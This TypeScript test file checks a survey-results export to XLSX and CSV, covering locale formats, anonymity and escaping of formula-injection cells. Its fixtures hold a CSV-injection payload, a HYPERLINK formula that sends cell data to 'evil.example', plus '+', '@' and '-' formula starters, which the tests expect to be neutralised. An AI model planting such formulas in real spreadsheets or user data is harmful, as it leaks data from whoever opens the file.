import ExcelJS from 'exceljs';
import { normalizeSurveyQuestion, type SurveyQuestion, type SurveyResultsView } from '@kollab/contracts';
import type { RecordedEvent } from '../../../core/event-store/event-store.types';
import { MemoryReadStore } from '../../../core/testing/projection-specification';
import { surveyResultsProjection } from '../projections/survey-results.projection';
import { answers, surveyFor, surveyTimeline } from '../projections/survey-results.spec-data';
import { SurveyResultsReader } from '../queries/survey-results.reader';
import { surveyResultsFile } from './survey-results-export';

/** A question and a choice label written to attack whoever opens the export in a spreadsheet. */
const QUESTIONS: SurveyQuestion[] = [
  { id: 'q-ok', type: 'boolean', question: 'Zufrieden?' },
  {
    id: 'q-pick',
    type: 'multiple_choice',
    question: 'Was fehlt?',
    answer_choices: [
      { id: 'c-1', label: '+SUM(1;2)' },
      { id: 'c-2', label: 'Kaffee, Tee' },
      { id: 'c-3', label: 'Ruhe' },
    ],
  },
  { id: 'q-scale', type: 'scale', question: 'Wie sehr?', min: -2, max: 2 },
  { id: 'q-day', type: 'date', question: 'Ab wann?' },
  { id: 'q-text', type: 'text', question: 'Sonst noch etwas?' },
].map((question) => normalizeSurveyQuestion(question));

const HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1;"Klick")';
const NAMES = new Map([
  ['u-anna', 'Anna Müller'],
  ['u-carl', '@Carl "der Große"'],
]);

async function viewOf(anonymous: boolean, ...answered: ReturnType<typeof answers>[]): Promise<SurveyResultsView> {
  const t = surveyTimeline();
  const events: RecordedEvent[] = [t.created({ anonymous, questions: QUESTIONS })];
  answered.forEach((given, i) => events.push(anonymous ? t.cast('r1', given) : t.submitted(['u-anna', 'u-carl', 'u-dora'][i], given)));
  const store = new MemoryReadStore();
  for (const event of events) await surveyResultsProjection.apply(event, store);
  return new SurveyResultsReader(store).results('a1', surveyFor(QUESTIONS, { anonymous, submitted: answered.length, assignees: 4 }));
}

const ANNA = answers({ 'q-ok': true, 'q-pick': ['c-1', 'c-2'], 'q-scale': -2, 'q-day': '2026-03-02', 'q-text': 'Mehr\nPausen; bitte' });
const CARL = answers({ 'q-ok': false, 'q-pick': ['c-2'], 'q-scale': 1, 'q-text': HOSTILE });
const DORA = answers({ 'q-ok': true, 'q-scale': 2, 'q-text': '-1+2' });

/** RFC 4180 records of a CSV (quoted fields may hold separators, quotes and line breaks). */
function parseCsv(text: string, separator: string): string[][] {
  const records: string[][] = [];
  let record: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i += 1) {
    const c = text[i];
    if (quoted && c === '"' && text[i + 1] === '"') {
      field += '"';
      i += 1;
    } else if (c === '"') {
      quoted = !quoted;
    } else if (!quoted && c === separator) {
      record.push(field);
      field = '';
    } else if (!quoted && c === '\r' && text[i + 1] === '\n') {
      record.push(field);
      records.push(record);
      record = [];
      field = '';
      i += 1;
    } else {
      field += c;
    }
  }
  return records;
}

async function sheetsOf(buffer: Buffer): Promise<Record<string, unknown[][]>> {
  const workbook = new ExcelJS.Workbook();
  // exceljs types its Buffer as an ArrayBuffer; a Node Buffer is what it reads.
  await workbook.xlsx.load(buffer as unknown as ExcelJS.Buffer);
  const sheets: Record<string, unknown[][]> = {};
  workbook.eachSheet((sheet) => {
    const rows: unknown[][] = [];
    sheet.eachRow({ includeEmpty: true }, (row, number) => {
      rows[number - 1] = Array.from((row.values as unknown[]).slice(1), (value) => value ?? null);
    });
    sheets[sheet.name] = Array.from(rows, (row) => row ?? []);
  });
  return sheets;
}

describe('survey results export', () => {
  it('writes a named survey as xlsx: the summary, one row per respondent with names, labels joined, hostile cells escaped', async () => {
    const view = await viewOf(false, ANNA, CARL, DORA);
    const sheets = await sheetsOf(await surveyResultsFile('xlsx', view, QUESTIONS, NAMES, 'de'));
    expect(Object.keys(sheets)).toEqual(['Überblick', 'Zusammenfassung', 'Antworten']);
    expect(sheets['Überblick']).toEqual([
      ['Zugewiesen', 4],
      ['Abgegeben', 3],
      ['Ausgewertet', 3],
    ]);
    const summary = sheets.Zusammenfassung;
    expect(summary[0]).toEqual(['Frage', 'Typ', 'Beantwortet', 'Antwort', 'Anzahl', 'Mittelwert', 'Median']);
    expect(summary.slice(1)).toEqual([
      ['Zufrieden?', 'Ja/Nein', 3],
      ['Zufrieden?', null, null, 'Ja', 2],
      ['Zufrieden?', null, null, 'Nein', 1],
      ['Was fehlt?', 'Mehrfachauswahl', 2],
      ['Was fehlt?', null, null, "'+SUM(1;2)", 1],
      ['Was fehlt?', null, null, 'Kaffee, Tee', 2],
      ['Was fehlt?', null, null, 'Ruhe', 0],
      ['Wie sehr?', 'Skala', 3, null, null, 0.33, 1],
      ...[-2, -1, 0, 1, 2].map((value) => ['Wie sehr?', null, null, value, value === -2 || value >= 1 ? 1 : 0]),
      ['Ab wann?', 'Datum', 1],
      ['Ab wann?', null, null, '02.03.2026', 1],
      ['Sonst noch etwas?', 'Text', 3],
    ]);
    const responses = sheets.Antworten;
    expect(responses[0]).toEqual(['Name', 'Abgegeben am (UTC)', 'Zufrieden?', 'Was fehlt?', 'Wie sehr?', 'Ab wann?', 'Sonst noch etwas?']);
    expect(responses.slice(1)).toEqual([
      ['Anna Müller', new Date('2030-01-02T00:00:00.000Z'), 'Ja', "'+SUM(1;2), Kaffee, Tee", -2, '02.03.2026', 'Mehr\nPausen; bitte'],
      ['\'@Carl "der Große"', new Date('2030-01-03T00:00:00.000Z'), 'Nein', 'Kaffee, Tee', 1, null, `'${HOSTILE}`],
      ['u-dora', new Date('2030-01-04T00:00:00.000Z'), 'Ja', null, 2, null, "'-1+2"],
    ]);
  });

  it('writes an anonymous survey as xlsx: the summary and the sorted text answers, never a name', async () => {
    const view = await viewOf(true, ANNA, CARL, DORA);
    const buffer = await surveyResultsFile('xlsx', view, QUESTIONS, NAMES, 'en');
    const sheets = await sheetsOf(buffer);
    expect(Object.keys(sheets)).toEqual(['Overview', 'Summary', 'Text answers']);
    expect(sheets.Summary[0]).toEqual(['Question', 'Type', 'Answered', 'Answer', 'Count', 'Mean', 'Median']);
    expect(sheets.Summary[1]).toEqual(['Zufrieden?', 'Yes/No', 3]);
    expect(sheets.Summary).toContainEqual(['Ab wann?', null, null, '2026-03-02', 1]);
    expect(sheets['Text answers']).toEqual([
      ['Question', 'Answer'],
      ['Sonst noch etwas?', "'-1+2"],
      ['Sonst noch etwas?', `'${HOSTILE}`],
      ['Sonst noch etwas?', 'Mehr\nPausen; bitte'],
    ]);
    const everything = JSON.stringify(sheets);
    for (const name of ['Anna', 'Carl', 'u-anna', 'u-carl', 'u-dora']) expect(everything).not.toContain(name);
  });

  it('writes CSV with a byte order mark, `;` and decimal commas in German, RFC 4180 quoting, hostile cells escaped', async () => {
    const view = await viewOf(false, ANNA, CARL, DORA);
    const csv = (await surveyResultsFile('csv', view, QUESTIONS, NAMES, 'de')).toString('utf8');
    expect(csv.startsWith('\uFEFFÜberblick\r\nZugewiesen;4\r\n')).toBe(true);
    const records = parseCsv(csv.slice(1), ';');
    expect(records).toContainEqual(['Wie sehr?', 'Skala', '3', '', '', '0,33', '1']);
    expect(records).toContainEqual(['Was fehlt?', '', '', "'+SUM(1;2)", '1']);
    expect(records).toContainEqual(['Wie sehr?', '', '', '-2', '1']);
    const header = records.findIndex((record) => record[0] === 'Name');
    expect(records[header - 1]).toEqual(['Antworten']);
    expect(records[header - 2]).toEqual(['']);
    expect(records.slice(header)).toEqual([
      ['Name', 'Abgegeben am (UTC)', 'Zufrieden?', 'Was fehlt?', 'Wie sehr?', 'Ab wann?', 'Sonst noch etwas?'],
      ['Anna Müller', '02.01.2030 00:00', 'Ja', "'+SUM(1;2), Kaffee, Tee", '-2', '02.03.2026', 'Mehr\nPausen; bitte'],
      ['\'@Carl "der Große"', '03.01.2030 00:00', 'Nein', 'Kaffee, Tee', '1', '', `'${HOSTILE}`],
      ['u-dora', '04.01.2030 00:00', 'Ja', '', '2', '', "'-1+2"],
    ]);
    // Quoted only where RFC 4180 needs it: the quotes of the hostile answer doubled.
    expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1;""Klick"")"`);
  });

  it('writes CSV in English with `,` and decimal points; an anonymous survey has its text answers and no names', async () => {
    const view = await viewOf(true, ANNA, CARL, DORA);
    const csv = (await surveyResultsFile('csv', view, QUESTIONS, NAMES, 'en')).toString('utf8');
    const records = parseCsv(csv.slice(1), ',');
    expect(records).toContainEqual(['Wie sehr?', 'Scale', '3', '', '', '0.33', '1']);
    expect(records).toContainEqual(['Was fehlt?', '', '', 'Kaffee, Tee', '2']);
    const texts = records.findIndex((record) => record[0] === 'Text answers');
    expect(records.slice(texts)).toEqual([
      ['Text answers'],
      ['Question', 'Answer'],
      ['Sonst noch etwas?', "'-1+2"],
      ['Sonst noch etwas?', `'${HOSTILE}`],
      ['Sonst noch etwas?', 'Mehr\nPausen; bitte'],
    ]);
    for (const name of ['Anna', 'Carl', 'u-anna']) expect(csv).not.toContain(name);
  });
});
